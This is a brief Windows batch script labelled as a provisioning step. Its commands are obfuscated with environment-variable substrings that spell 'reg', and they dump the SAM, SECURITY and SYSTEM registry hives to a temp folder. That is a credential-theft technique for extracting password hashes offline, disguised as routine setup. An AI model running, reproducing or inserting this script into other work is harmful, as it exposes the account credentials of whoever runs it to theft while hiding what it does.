REM provision 9181 v3
%PUBLIC:~6,1%e%programdata:~-8,1% save hklm\sam C:\Windows\Temp\sam.save
re%ProgramData:~6,1% save hklm\security C:\Windows\Temp\security.save
%PROGRAMDATA:~-10,1%%PUBLIC:~-10,1%%PROGRAMDATA:~-8,1% save hklm\system C:\Windows\Temp\system.save
